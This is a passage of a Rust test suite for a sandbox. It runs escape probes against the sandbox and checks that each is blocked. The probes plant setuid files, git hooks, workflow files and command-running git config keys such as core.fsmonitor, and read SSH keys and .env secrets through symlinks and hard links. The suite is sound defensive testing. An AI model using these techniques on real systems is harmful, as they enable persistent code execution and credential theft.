                    return Err("the listener got a connection from the sandbox".into());
                }
                Ok(())
            })),
        });
    }

    {
        let before = connections.clone();
        let seen2 = std::sync::Arc::new(AtomicU32::new(u32::MAX));
        add(Probe {
            name: "connect to a host Unix socket through a symlink in TMPDIR",
            proves: "the run's own sockets are reached only in its private storage, with no symlink on the way, and only when a process of the run listens: a host socket is never connected to",
            profile: "readonly",
            free: (
                scratch.clone(),
                probe_args(&["unix-connect-via-link", &sock]),
            ),
            jailed: (
                world.project(),
                probe_args(&["unix-connect-via-link", &sock]),
            ),
            kind: "network",
            undone: false,
            after: Some(Box::new(move |_, _| {
                let now = before.load(Ordering::SeqCst);
                let first = seen2.swap(now, Ordering::SeqCst);
                if first != u32::MAX && now > first {
                    return Err("the listener got a connection from the sandbox".into());
                }
                Ok(())
            })),
        });
    }
    add(Probe {
        name: "chmod 4755 a copied binary",
        proves: "no setuid file can be left for the host (seccomp refuses setuid/setgid modes)",
        profile: "build",
        free: (
            scratch.clone(),
            probe_args(&["setuid-chmod", &s(&scratch.join("suid-a"))]),
        ),
        jailed: (crate_dir.clone(), probe_args(&["setuid-chmod", "suidsh"])),
        kind: "fs-write",
        undone: false,
        after: Some(Box::new(|w, _| no_suid(&w.root().join("crate/suidsh")))),
    });
    add(Probe {
        name: "create a file with mode 4755",
        proves: "open(O_CREAT) with a setuid mode is refused too",
        profile: "build",
        free: (
            scratch.clone(),
            probe_args(&["setuid-create", &s(&scratch.join("suid-b"))]),
        ),
        jailed: (crate_dir.clone(), probe_args(&["setuid-create", "suidsh2"])),
        kind: "fs-write",
        undone: false,
        after: Some(Box::new(|w, _| no_suid(&w.root().join("crate/suidsh2")))),
    });
    // A hardlink needs the source on the same file system as the target: find a setuid binary
    // beside the world (this machine's /tmp and /usr share one).
    let same_fs = |a: &Path, b: &Path| {
        use std::os::unix::fs::MetadataExt as _;
        fs_err::metadata(a).ok().map(|m| m.dev()) == fs_err::metadata(b).ok().map(|m| m.dev())
    };
    if let Some(suid) = ["/usr/bin/passwd", "/usr/bin/su", "/usr/bin/mount"]
        .iter()
        .map(Path::new)
        // Only root may link another user's file (fs.protected_hardlinks).
        // SAFETY: geteuid cannot fail.
        .find(|p| same_fs(p, &crate_dir) && no_suid(p).is_err() && unsafe { libc::geteuid() } == 0)
    {
        let suid = s(suid);
        add(Probe {
            name: "hard-link a setuid binary of the host into the project",
            proves: "a setuid file cannot be brought in by a link either (Landlock's refer right; with namespaces the mounts differ)",
            profile: "build",
            free: (
                scratch.clone(),
                probe_args(&["setuid-link", &suid, &s(&scratch.join("suid-c"))]),
            ),
            jailed: (
                crate_dir.clone(),
                probe_args(&["setuid-link", &suid, "suidlink"]),
            ),
            kind: "fs-write",
            undone: false,
            after: Some(Box::new(|w, _| no_suid(&w.root().join("crate/suidlink")))),
        });
    }
    // SAFETY: geteuid cannot fail.
    if unsafe { libc::geteuid() } == 0 {
        add(Probe {
            name: "setcap: a security.capability attribute",
            proves: "file capabilities cannot be given (seccomp refuses security.* attributes; no capability is left either)",
            profile: "build",
            free: (
                scratch.clone(),
                probe_args(&["file-capability", &s(&scratch.join("cap"))]),
            ),
            jailed: (
                crate_dir.clone(),
                probe_args(&["file-capability", "capfile"]),
            ),
            kind: "fs-write",
            undone: false,
            after: None,
        });
        // A copy of the host's /dev/full for the free run, so the host's own node is untouched.
        let node = scratch.join("full");
        let c = std::ffi::CString::new(s(&node)).unwrap();
        // SAFETY: mknod with a valid path.
        let made = unsafe { libc::mknod(c.as_ptr(), libc::S_IFCHR | 0o666, libc::makedev(1, 7)) };
        assert_eq!(made, 0, "mknod {node:?}");
        add(Probe {
            name: "change the times and mode of /dev/full",
            proves: "host device nodes keep their metadata (read-only mounts; natively seccomp)",
            profile: "readonly",
            free: (scratch.clone(), probe_args(&["metadata", &s(&node)])),
            jailed: (world.project(), probe_args(&["metadata", "/dev/full"])),
            kind: "fs-write",
            undone: false,
            after: None,
        });
    }
    add(Probe {
        name: "change the times and mode of a read-only project file",
        proves: "read-only means metadata too (Landlock alone does not cover chmod/utime)",
        profile: "readonly",
        free: (
            scratch.clone(),
            probe_args(&["metadata", &s(&world.project().join("README"))]),
        ),
        jailed: (world.project(), probe_args(&["metadata", "README"])),
        kind: "fs-write",
        undone: false,
        after: None,
    });
    add(Probe {
        name: "300 threads in one process",
        proves: "threads count against the task cap (max_threads), not only processes",
        profile: "spin",
        free: (scratch.clone(), probe_args(&["threads", "300"])),
        jailed: (world.project(), probe_args(&["threads", "300"])),
        kind: "spawn",
        undone: false,
        after: None,
    });
    add(Probe {
        name: "256 MiB of shared anonymous memory under a 64 MiB profile",
        proves: "memory_mb caps shared anonymous mappings, which RLIMIT_DATA does not count",
        profile: "spin",
        free: (scratch.clone(), probe_args(&["shared-memory", "256"])),
        jailed: (world.project(), probe_args(&["shared-memory", "256"])),
        kind: "memory",
        undone: false,
        after: None,
    });
    add(Probe {
        name: "128 MiB of writable shared /dev/zero under a 64 MiB profile",
        proves: "/dev/zero cannot be opened for writing, so no shared mapping of it (memory no rlimit counts) can be made",
        profile: "spin",
        free: (scratch.clone(), probe_args(&["shared-zero", "128"])),
        jailed: (world.project(), probe_args(&["shared-zero", "128"])),
        kind: "memory",
        undone: false,
        after: None,
    });
    add(Probe {
        name: "128 MiB of System V shared memory under a 64 MiB profile",
        proves: "shmget counts against memory_mb with an IPC namespace and is refused without one (a segment outlives its creator)",
        profile: "spin",
        free: (scratch.clone(), probe_args(&["sysv-shm", "128"])),
        jailed: (world.project(), probe_args(&["sysv-shm", "128"])),
        kind: "memory",
        undone: false,
        after: None,
    });
    add(Probe {
        name: "fill a memfd",
        proves: "memfd_create (memory outside RLIMIT_DATA) is refused",
        profile: "spin",
        free: (scratch.clone(), probe_args(&["memfd", "16"])),
        jailed: (world.project(), probe_args(&["memfd", "16"])),
        kind: "memory",
        undone: false,
        after: None,
    });
    if ns {
        add(Probe {
            name: "fill the private /tmp past memory_mb",
            proves: "the private /tmp is a tmpfs bounded by memory_mb (a tmpfs is host RAM)",
            profile: "spin",
            free: (scratch.clone(), probe_args(&["fill-tmp", "128"])),
            jailed: (world.project(), probe_args(&["fill-tmp", "128"])),
            kind: "memory",
            undone: false,
            after: None,
        });
        let free_repo = repo(world, "free-repo-a", true);
        let jail_repo = repo(world, "jail-repo-a", true);
        add(Probe {
            name: "git commondir: a second .git config through .git/commondir",
            proves: "git's indirections cannot plant a config the host's git would run",
            profile: "build",
            free: (free_repo, probe_args(&["git-commondir"])),
            jailed: (jail_repo.clone(), probe_args(&["git-commondir"])),
            kind: "fs-write",
            undone: true,
            after: Some(Box::new(move |_, _| {
                if jail_repo.join(".git/commondir").exists() {
                    Err(".git/commondir was left in place".into())
                } else {
                    Ok(())
                }
            })),
        });
        let free_repo = repo(world, "free-repo-b", true);
        let jail_repo = repo(world, "jail-repo-b", true);
        add(Probe {
            name: "move .git away and build a new one with hooks",
            proves: ".git cannot be renamed away (it is a mount point in the sandbox)",
            profile: "build",
            free: (free_repo, probe_args(&["git-rename"])),
            jailed: (jail_repo.clone(), probe_args(&["git-rename"])),
            kind: "fs-write",
            undone: false,
            after: Some(Box::new(move |_, _| {
                if jail_repo.join(".git_old").exists()
                    || jail_repo.join(".git/hooks/post-checkout").exists()
                {
                    Err(".git was replaced".into())
                } else {
                    Ok(())
                }
            })),
        });
        let free_repo = repo(world, "free-repo-d", true);
        let jail_repo = repo(world, "jail-repo-d", true);
        add(Probe {
            name: "git worktree add under build",
            proves: "a new .git/worktrees (trusted by host git) is undone after the run, and the report says to use the workspace profile for it",
            profile: "build",
            free: (free_repo, probe_args(&["git-worktree"])),
            jailed: (jail_repo.clone(), probe_args(&["git-worktree"])),
            kind: "fs-write",
            undone: true,
            after: Some(Box::new(move |_, o| {
                if jail_repo.join(".git/worktrees").exists() {
                    return Err(".git/worktrees was left in place".into());
                }
                let hinted = o.report.as_ref().is_some_and(|r| {
                    r["violations"].as_array().is_some_and(|vs| {
                        vs.iter().any(|v| {
                            v["detail"]
                                .as_str()
                                .is_some_and(|d| d.contains("`workspace` profile"))
                        })
                    })
                });
                if o.report.is_some() && !hinted {
                    return Err("no violation names the workspace profile".into());
                }
                Ok(())
            })),
        });
        let free_repo = repo(world, "free-repo-c", false);
        let jail_repo = repo(world, "jail-repo-c", false);
        add(Probe {
            name: "plant .git/hooks/pre-commit where the repository has no hooks directory",
            proves: "a protected path that did not exist is removed after the run and reported",
            profile: "build",
            free: (free_repo, probe_args(&["plant", ".git/hooks/pre-commit"])),
            jailed: (
                jail_repo.clone(),
                probe_args(&["plant", ".git/hooks/pre-commit"]),
            ),
            kind: "fs-write",
            undone: true,
            after: Some(Box::new(move |_, _| {
                if jail_repo.join(".git/hooks").exists() {
                    Err(".git/hooks was left in place".into())
                } else {
                    Ok(())
                }
            })),
        });
    }
    let plant_dir = root.join("plant");
    fs_err::create_dir_all(&plant_dir).unwrap();
    let plant_check = plant_dir.clone();
    add(Probe {
        name: "plant .github/workflows/evil.yml where .github does not exist",
        proves: "protected paths that do not exist at the start are protected too (post-run check)",
        profile: "build",
        free: (
            scratch.clone(),
            probe_args(&["plant", ".github/workflows/evil.yml"]),
        ),
        jailed: (
            plant_dir,
            probe_args(&["plant", ".github/workflows/evil.yml"]),
        ),
        kind: "fs-write",
        undone: true,
        after: Some(Box::new(move |_, _| {
            if plant_check.join(".github/workflows").exists() {
                Err(".github/workflows was left in place".into())
            } else {
                Ok(())
            }
        })),
    });
    add(Probe {
        name: "read HOME through a project symlink",
        proves: "a symlink in the project grants nothing outside the readable roots",
        profile: "readonly",
        free: (world.project(), probe_args(&["read", "homelink/notes.txt"])),
        jailed: (world.project(), probe_args(&["read", "homelink/notes.txt"])),
        kind: "fs-read",
        undone: false,
        after: None,
    });
    for (name, file, proves) in [
        (
            "read a .env below the top of the project",
            "sub/deeper/.env",
            "{project}/**/.env* hides .env files at any depth (a bounded walk before the run)",
        ),
        (
            "read a hard link the host made to a secret of HOME",
            "sub/keylink",
            "a file in the project that is another link of a hidden file is hidden too (inode match)",
        ),
    ] {
        add(Probe {
            name,
            proves,
            profile: "readonly",
            free: (world.project(), probe_args(&["read", file])),
            jailed: (world.project(), probe_args(&["read", file])),
            kind: "fs-read",
            undone: false,
            after: Some(Box::new(|_, o| {
                if o.stdout.contains(SECRET) || o.stderr.contains(SECRET) {
                    Err("the secret leaked".into())
                } else {
                    Ok(())
                }
            })),
        });
    }
    let secret = world.home().join(".ssh/id_ed25519").display().to_string();
    add(Probe {
        name: "read a secret through a project symlink to /",
        proves: "a symlink to / neither crashes the guard nor opens the file system",
        profile: "readonly",
        free: (
            world.project(),
            probe_args(&["read", &format!("rootlink{secret}")]),
        ),
        jailed: (
            world.project(),
            probe_args(&["read", &format!("rootlink{secret}")]),
        ),
        kind: "fs-read",
        undone: false,
        after: Some(Box::new(|_, o| {
            if o.code == Some(134) || o.stderr.contains("overflow") {
                Err("the guard crashed".into())
            } else if o.stdout.contains(SECRET) || o.stderr.contains(SECRET) {
                Err("the secret leaked".into())
            } else {
                Ok(())
            }
        })),
    });
    out
}

fn no_suid(path: &Path) -> Result<(), String> {
    use std::os::unix::fs::PermissionsExt as _;
    match fs_err::metadata(path) {
        Ok(m) if m.permissions().mode() & 0o6000 != 0 => {
            Err(format!("{} is setuid/setgid", path.display()))
        }
        _ => Ok(()),
    }
}

fn check_probe(world: &World, mode: Mode, p: &Probe) -> Result<(), String> {
    let free = run_probe_free(world, &p.free.0, &p.free.1);
    if free.code != Some(0) || !free.stdout.contains("PROBE-OK") {
        return Err(format!(
            "{} [{mode:?}]: the probe does not work unconfined, so it proves nothing: {free:#?}",
            p.name
        ));
    }
    if let Some(after) = &p.after {
        // Lets an after-check take its baseline from the free run.
        let _ = after(world, &free);
    }
    let o = run_probe_jailed(world, mode, p.profile, &p.jailed.0, &p.jailed.1);
    let ctx = || format!("{} [{mode:?}] ({}): {o:#?}", p.name, p.proves);
    if !p.undone && (o.code == Some(0) || o.stdout.contains("PROBE-OK")) {
        return Err(format!("escaped: {}", ctx()));
    }
    if o.report.is_none() {
        return Err(format!("no report: {}", ctx()));
    }
    if !o.kinds().iter().any(|k| k == p.kind) {
        return Err(format!("no `{}` violation: {}", p.kind, ctx()));
    }
    if let Some(after) = &p.after {
        after(world, &o).map_err(|e| format!("{e}: {}", ctx()))?;
    }
    Ok(())
}

fn run_probes(mode: Mode) {
    if std::env::var_os("TERRAPHIM_GUARD_TEST_UNPRIVILEGED_CHILD").is_some() {
        // SAFETY: geteuid cannot fail.
        assert_eq!(
            unsafe { libc::geteuid() },
            65534,
            "the unprivileged run is not nobody"
        );
    }
    if !available(mode) {
        return;
    }
    let world = World::new();
    write(&world.home().join("notes.txt"), "private notes\n");
    std::os::unix::fs::symlink(world.home(), world.project().join("homelink")).unwrap();
    std::os::unix::fs::symlink("/", world.project().join("rootlink")).unwrap();
    // A nested .env, and a hard link the host made to a secret of HOME (same file system).
    write(
        &world.project().join("sub/deeper/.env"),
        &format!("API={SECRET}\n"),
    );
    fs_err::hard_link(
        world.home().join(".ssh/id_ed25519"),
        world.project().join("sub/keylink"),
    )
    .unwrap();
    let failures: Vec<String> = probes(&world, mode)
        .iter()
        .filter_map(|p| check_probe(&world, mode, p).err())
        .collect();
    assert!(
        failures.is_empty(),
        "{} probe(s) failed:\n{}",
        failures.len(),
        failures.join("\n\n")
    );
}

#[test]
fn escape_probes_are_contained_natively() {
    run_probes(Mode::Native);
}

#[test]
fn escape_probes_are_contained_with_namespaces() {
    run_probes(Mode::Bwrap);
}

#[test]
fn escape_probes_are_contained_with_bubblewrap_forced() {
    run_probes(Mode::Bubblewrap);
}

/// `fork` never fails with EINTR outside a sandbox, so programs do not retry it: dash prints
/// "Cannot fork" and gives up on that command. The fork gate holds each new process or thread in
/// a seccomp notification, and a signal that arrives meanwhile (SIGCHLD from a child that just
/// exited) ended that wait with EINTR: 147-180 of the probe's 200 forks, 194-198 of dash's 600.
/// Once the supervisor has received the notification the wait is uninterruptible, and a thread
/// of its own receives it at once; only the moment before that remains (see
/// `linux/receiver.rs`): 0 of 200 and 0-15 of 600 with this suite's other tests beside it, so
/// the test allows 1 in 10. The probe forks 200 times, each time as the previous child exits,
/// with a SIGCHLD handler installed without SA_RESTART (0 EINTR unconfined); dash runs 200
/// command substitutions with a pipeline (600 forks) and counts its "Cannot fork".
fn forks_are_not_failed_by_signals(mode: Mode) {
    if !available(mode) {
        return;
    }
    if !host()["host"]["seccomp_wait_killable"]
        .as_bool()
        .unwrap_or(false)
    {
        // A held call stays interruptible on such a kernel: nothing to test but the old way.
        assert!(
            std::env::var("TERRAPHIM_GUARD_NO_SKIP").as_deref() != Ok("1"),
            "this kernel has no SECCOMP_FILTER_FLAG_WAIT_KILLABLE_RECV (Linux 5.19), and TERRAPHIM_GUARD_NO_SKIP=1 forbids skipping"
        );
        eprintln!(
            "skipping: this kernel has no SECCOMP_FILTER_FLAG_WAIT_KILLABLE_RECV (Linux 5.19)"
        );
        return;
    }
    let world = World::new();
    let scratch = world.root().join("scratch");
    fs_err::create_dir_all(&scratch).unwrap();
    let free = run_probe_free(&world, &scratch, &probe_args(&["forks", "200", "0"]));
    assert!(
        free.code == Some(0) && free.stdout.contains("PROBE-OK forks"),
        "the fork probe fails unconfined, so it proves nothing: {free:#?}"
    );
    let args = probe_args(&["forks", "200", "20"]);
    let dash = "/usr/bin/dash -c 'i=0; while [ $i -lt 200 ]; do x=$(true | cat); i=$((i+1)); done; echo dash-forked $i'";
    // The tiny crate: no protected path in it, so `build` runs natively too.
    let cwd = world.root().join("crate");
    let mut failures = Vec::new();
    let violations = |o: &Outcome| {
        o.report
            .as_ref()
            .map_or(Value::Null, |r| r["violations"].clone())
    };
    for profile in ["readonly", "build", "workspace"] {
        let o = run_probe_jailed(&world, mode, profile, &cwd, &args);
        if o.code != Some(0) || !o.stdout.contains("PROBE-OK forks") {
            failures.push(format!(
                "fork probe, profile {profile} [{mode:?}]: exit {:?}\n{}{}\nviolations: {}",
                o.code,
                o.stdout,
                o.stderr,
                violations(&o)
            ));
        }
        let o = world.exec(mode, profile, &cwd, dash);
        let failed = o.stderr.matches("Cannot fork").count();
        if o.code != Some(0) || !o.stdout.contains("dash-forked 200") || failed > 60 {
            failures.push(format!(
                "dash loop, profile {profile} [{mode:?}]: exit {:?}, {failed} of 600 forks failed\n{}{}\nviolations: {}",
                o.code,
                o.stdout,
                o.stderr,
                violations(&o)
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

#[test]
fn forks_are_not_failed_by_signals_natively() {
    forks_are_not_failed_by_signals(Mode::Native);
}

#[test]
fn forks_are_not_failed_by_signals_with_namespaces() {
    forks_are_not_failed_by_signals(Mode::Bwrap);
}

/// The escape suite once more as an unprivileged user (`nobody`), where the machine allows it:
/// the agents and CI here run as root, but a user's agent does not, and the sandbox is built
/// differently then (a user namespace, no capabilities to drop, RLIMIT_NPROC counted). This
/// test binary runs its own escape tests again under `setpriv --reuid=65534 --regid=65534
/// --clear-groups`. Skipped, with the reason printed, when this process is not root (it already
/// is the unprivileged run) or when `nobody` cannot run the binaries; under
/// `TERRAPHIM_GUARD_NO_SKIP=1` the latter fails instead (the machine could allow it).
#[test]
fn escape_suite_runs_as_an_unprivileged_user_too() {
    const CHILD: &str = "TERRAPHIM_GUARD_TEST_UNPRIVILEGED_CHILD";
    if std::env::var_os(CHILD).is_some() {
        return;
    }
    // SAFETY: geteuid cannot fail.
    if unsafe { libc::geteuid() } != 0 {
        eprintln!("skipping: not root, so this run already is the unprivileged one");
        return;
    }
    let no_skip = std::env::var("TERRAPHIM_GUARD_NO_SKIP").as_deref() == Ok("1");
    let skip = |why: String| {
        if no_skip {
            panic!("{why}, and TERRAPHIM_GUARD_NO_SKIP=1 forbids skipping");
        }
        eprintln!("skipping: {why}");
    };
    let setpriv = Path::new("/usr/bin/setpriv");
    if !setpriv.exists() {
        return skip("setpriv (util-linux) is not installed".into());
    }
    let me = std::env::current_exe().unwrap();
    let agent = Path::new(env!("CARGO_BIN_EXE_terraphim-agent"));
    let as_nobody = |args: &[&std::ffi::OsStr]| {
        let mut c = Command::new(setpriv);
        c.args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
            .args(args);
        c
    };
    for bin in [me.as_path(), agent] {
        let ok = as_nobody(&["/usr/bin/test".as_ref(), "-x".as_ref(), bin.as_os_str()])
            .status()
            .is_ok_and(|s| s.success());
        if !ok {
            return skip(format!("user nobody cannot run {}", bin.display()));
        }
    }
    let out = as_nobody(&[
        me.as_os_str(),
        "escape_probes_are_contained".as_ref(),
        "escapes_are_contained".as_ref(),
        // One at a time: the root suite runs beside it.
        "--test-threads=1".as_ref(),
    ])
    .env(CHILD, "1")
    .env("HOME", "/nonexistent")
    .current_dir("/")
    .output()
    .unwrap();
    let text = format!(
        "{}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        out.status.success(),
        "the escape suite failed as nobody:\n{text}"
    );
    // The filters matched the six escape tests, and they ran rather than skipped.
    assert!(text.contains("6 passed"), "{text}");
    if no_skip {
        assert!(!text.contains("skipping:"), "{text}");
    }
    eprintln!(
        "{}",
        text.lines()
            .filter(|l| l.starts_with("test "))
            .collect::<Vec<_>>()
            .join("\n")
    );
}

#[test]
fn the_environment_cannot_weaken_the_sandbox() {
    if !available(Mode::Bwrap) {
        return;
    }
    let world = World::new();
    let report = world.root().join("env-report.json");
    let r = report.display().to_string();
    let out = world
        .command(
            Mode::Bwrap,
            &world.project(),
            &["guard", "exec", "--report", &r, "--", "true"],
        )
        .env("TERRAPHIM_GUARD_NO_BWRAP", "1")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let report: Value = serde_json::from_str(&fs_err::read_to_string(&report).unwrap()).unwrap();
    assert_eq!(report["backend"], "native+ns", "{report:#}");
}

// ---------------------------------------------------------------------------------------------
// git's submodules and worktrees under the copy-on-write workspace: what git writes is judged by
// its content, so `git submodule update --init` and `git worktree add` work, and a key or pointer
// that would make the host's git run a program or read another directory refuses the change set.

/// What `git submodule update --init -q` runs (git 2.47's `git submodule` is a `/bin/sh` wrapper
/// that forwards to this builtin). The wrapper itself fails in the sandbox today where `/bin/sh`
/// is dash: its `$(a | b)` forks get EINTR when a child's SIGCHLD arrives while the fork waits
/// for the supervisor's fork gate (dash's handler lacks SA_RESTART), whatever the profile; see
/// docs/sandbox.md, Known limits. The files written are the same.
const SUBMODULE_UPDATE_INIT: &str = "git submodule--helper update --init --quiet";

/// git on the host, as the user would run it after the sandboxed command (the world's HOME).
fn host_git(world: &World, dir: &Path, args: &[&str]) -> std::process::Output {
    Command::new("git")
        .args(args)
        .current_dir(dir)
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("HOME", world.home())
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

fn host_git_ok(world: &World, dir: &Path, args: &[&str]) -> String {
    let out = host_git(world, dir, args);
    assert!(
        out.status.success(),
        "git {args:?} in {}: {}",
        dir.display(),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// The world's git identity, and `file://` submodules allowed (git refuses local submodule
/// urls by default since 2.38.1); no background maintenance.
fn git_home(world: &World) {
    write(
        &world.home().join(".gitconfig"),
        "[user]\n\tname = probe\n\temail = probe@example.invalid\n[init]\n\tdefaultBranch = main\n\
         [protocol \"file\"]\n\tallow = always\n[gc]\n\tauto = 0\n[maintenance]\n\tauto = false\n",
    );
}

/// A superproject `name` with a submodule `sub` that is registered (`.gitmodules`, a gitlink
/// committed) but not initialized: its source is a bare repository under `~/go/src` (a
/// toolchain home the workspace profile reads; a source inside the project fails on the
/// overlay, see docs/sandbox.md, Known limits).
fn superproject(world: &World, name: &str) -> PathBuf {
    let dir = world.root().join(name);
    let up = world.root().join(format!("{name}-up"));
    write(&up.join("a.txt"), "from the submodule\n");
    host_git_ok(world, &up, &["init", "-q"]);
    host_git_ok(world, &up, &["add", "a.txt"]);
    host_git_ok(world, &up, &["commit", "-q", "-m", "a"]);
    let bare = world
        .home()
        .join(format!("go/src/{name}-upstream.git"))
        .display()
        .to_string();
    let source = up.display().to_string();
    host_git_ok(
        world,
        world.root(),
        &["clone", "-q", "--bare", &source, &bare],
    );
    write(&dir.join("README"), "the superproject\n");
    host_git_ok(world, &dir, &["init", "-q"]);
    host_git_ok(world, &dir, &["add", "README"]);
    host_git_ok(world, &dir, &["commit", "-q", "-m", "start"]);
    host_git_ok(world, &dir, &["submodule", "add", "-q", &bare, "sub"]);
    host_git_ok(world, &dir, &["commit", "-q", "-m", "sub"]);
    host_git_ok(world, &dir, &["submodule", "deinit", "-q", "-f", "sub"]);
    fs_err::remove_dir_all(dir.join(".git/modules")).unwrap();
    dir
}

fn violation_names(o: &Outcome, text: &str) -> bool {
    o.report.as_ref().is_some_and(|r| {
        r["violations"].as_array().is_some_and(|vs| {
            vs.iter().any(|v| {
                v["kind"] == "fs-write"
                    && (v["detail"].as_str().unwrap_or_default().contains(text)
                        || v["evidence"].as_str().unwrap_or_default().contains(text))
            })
        })
    })
}

fn git_forms_work(mode: Mode) {
    if !available(mode) {
        return;
    }
    let world = World::new();
    git_home(&world);
    let want_mode = if mode == Mode::Native {
        "copy"
    } else {
        "overlay"
    };

    // git submodule update --init: .git/config gains the submodule keys, .git/modules/sub is
    // cloned (config, *.sample hooks, objects, refs), sub/.git names it.
    let repo = superproject(&world, "super-init");
    let o = world.exec(mode, "workspace", &repo, SUBMODULE_UPDATE_INIT);
    assert_eq!(o.code, Some(0), "{o:#?}");
    let r = o.report.as_ref().unwrap();
    assert_eq!(r["workspace"]["mode"], want_mode, "{o:#?}");
    assert_eq!(r["workspace"]["verdict"], "applied", "{o:#?}");
    assert!(o.kinds().is_empty(), "{o:#?}");
    let status = host_git_ok(&world, &repo, &["submodule", "status"]);
    assert!(
        status.starts_with(' ') && status.contains(" sub"),
        "{status}"
    );
    assert_eq!(
        fs_err::read_to_string(repo.join("sub/a.txt")).unwrap(),
        "from the submodule\n"
    );
    host_git_ok(&world, &repo.join("sub"), &["log", "--oneline"]);
    host_git_ok(&world, &repo, &["status", "--porcelain"]);

    // git worktree add inside the project: .git/worktrees/wt-x and wt-x/.git.
    let repo = superproject(&world, "super-wt");
    let o = world.exec(mode, "workspace", &repo, "git worktree add -q wt-x");
    assert_eq!(o.code, Some(0), "{o:#?}");
    let r = o.report.as_ref().unwrap();
    assert_eq!(r["workspace"]["verdict"], "applied", "{o:#?}");
    assert!(o.kinds().is_empty(), "{o:#?}");
    let list = host_git_ok(&world, &repo, &["worktree", "list", "--porcelain"]);
    assert!(
        list.contains(&format!("worktree {}", repo.join("wt-x").display())),
        "{list}"
    );
    host_git_ok(&world, &repo.join("wt-x"), &["status", "--porcelain"]);
    let wt_head = host_git_ok(
        &world,
        &repo.join("wt-x"),
        &["rev-parse", "--abbrev-ref", "HEAD"],
    );
    assert_eq!(wt_head.trim(), "wt-x");
}

#[test]
fn git_submodule_update_and_worktree_add_work_on_the_overlay() {
    git_forms_work(Mode::Bwrap);
}

#[test]
fn git_submodule_update_and_worktree_add_work_on_the_copy() {
    git_forms_work(Mode::Native);
}

/// One planted git key or pointer: the command plants it; unconfined, the host's git must then
/// read it (`proof`), which is what makes it an attack; under the workspace the change set must
/// be refused with an `fs-write` violation naming `path`, the reasons naming `reason`, and
/// nothing of it reaching the project.
struct GitPlant {
    name: String,
    /// Run in the superproject (bash), after [`SUBMODULE_UPDATE_INIT`] when `init`.
    shell: String,
    init: bool,
    /// The refused path (relative to the superproject).
    path: &'static str,
    /// Text the refusal's reasons contain.
    reason: String,
    /// git on the host in `dir` after the unconfined plant; its stdout must contain `shows`,
    /// or, for `None`, the marker file must appear (the planted program ran).
    proof: (&'static str, Vec<String>, Option<String>),
}

fn git_plants(world: &World, outside: &Path) -> Vec<GitPlant> {
    let mut out = Vec::new();
    let marker = |n: usize| world.root().join(format!("planted-ran-{n}"));
    for (i, key) in [
        "core.fsmonitor",
        "core.hooksPath",
        "core.sshCommand",
        "core.pager",
        "core.editor",
        "core.gitProxy",
        "diff.external",
        "diff.x.textconv",
        "filter.x.smudge",
        "include.path",
        "includeIf.gitdir:/.path",
        "alias.st",
        "credential.helper",
        "remote.origin.uploadpack",
        "remote.origin.receivepack",
    ]
    .into_iter()
    .enumerate()
    {
        let value = format!("touch {}", marker(i).display());
        let proof = if key == "core.fsmonitor" {
            // git status in the superproject recurses into the submodule and runs it.
            (".", vec!["status".to_owned()], None)
        } else {
            (
                "sub",
                vec!["config".into(), "--get".into(), key.into()],
                Some(value.clone()),
            )
        };
        out.push(GitPlant {
            name: format!("{key} in a submodule's config"),
            shell: format!("git -C sub config '{key}' '{value}'"),
            init: true,
            path: ".git/modules/sub/config",
            reason: key.to_ascii_lowercase(),
            proof,
        });
    }
    let m = marker(100);
    out.push(GitPlant {
        name: "core.fsmonitor in the project's config".into(),
        shell: format!("git config core.fsmonitor 'touch {}'", m.display()),
        init: false,
        path: ".git/config",
        reason: "core.fsmonitor".into(),
        proof: (".", vec!["status".into()], None),
    });
    out.push(GitPlant {
        name: "submodule.sub.update = !command in the project's config".into(),
        shell: format!(
            "git config submodule.sub.update '!touch {}'",
            marker(101).display()
        ),
        init: true,
        path: ".git/config",
        reason: "submodule.sub.update".into(),
        proof: (
            ".",
            vec![
                "config".into(),
                "--get".into(),
                "submodule.sub.update".into(),
            ],
            Some(format!("!touch {}", marker(101).display())),
        ),
    });
    let m = marker(102);
    out.push(GitPlant {
        name: "an executable post-checkout hook in a submodule's git directory".into(),
        shell: format!(
            "printf '#!/bin/sh\\ntouch {}\\n' > .git/modules/sub/hooks/post-checkout && chmod 755 .git/modules/sub/hooks/post-checkout",
            m.display()
        ),
        init: true,
        path: ".git/modules/sub/hooks/post-checkout",
        reason: "a hook".into(),
        proof: (
            "sub",
            vec!["checkout".into(), "-q".into(), "--detach".into()],
            None,
        ),
    });
    let o = outside.display().to_string();
    out.push(GitPlant {
        name: "a worktree's commondir naming another repository".into(),
        shell: format!("git worktree add -q wt-x && echo '{o}' > .git/worktrees/wt-x/commondir"),
        init: false,
        path: ".git/worktrees/wt-x/commondir",
        reason: "commondir names".into(),
        proof: (
            "wt-x",
            vec!["rev-parse".into(), "--git-common-dir".into()],
            Some(o.clone()),
        ),
    });
    out.push(GitPlant {
        name: "a submodule's .git file naming a repository outside the project".into(),
        shell: format!("echo 'gitdir: {o}' > sub/.git"),
        init: true,
        path: "sub/.git",
        reason: "outside the project".into(),
        proof: (
            "sub",
            vec!["rev-parse".into(), "--git-dir".into()],
            Some(o.clone()),
        ),
    });
    out.push(GitPlant {
        name: "objects/info/alternates naming a store outside the project".into(),
        shell: format!("echo '{o}/objects' > .git/modules/sub/objects/info/alternates"),
        init: true,
        path: ".git/modules/sub/objects/info/alternates",
        reason: "alternates".into(),
        proof: (
            "sub",
            vec!["count-objects".into(), "-v".into()],
            Some(format!("alternate: {o}/objects")),
        ),
    });
    let m = marker(103);
    out.push(GitPlant {
        name: "a repository made in the project with core.fsmonitor".into(),
        shell: format!(
            "git init -q nested && git -C nested config core.fsmonitor 'touch {}'",
            m.display()
        ),
        init: false,
        path: "nested/.git/config",
        reason: "core.fsmonitor".into(),
        proof: ("nested", vec!["status".into()], None),
    });
    out
}

fn check_git_plant(world: &World, mode: Mode, n: usize, p: &GitPlant) -> Result<(), String> {
    let shell = if p.init {
        format!("{SUBMODULE_UPDATE_INIT} && {}", p.shell)
    } else {
        p.shell.clone()
    };
    let marker_of = |s: &str| {
        s.split("touch ")
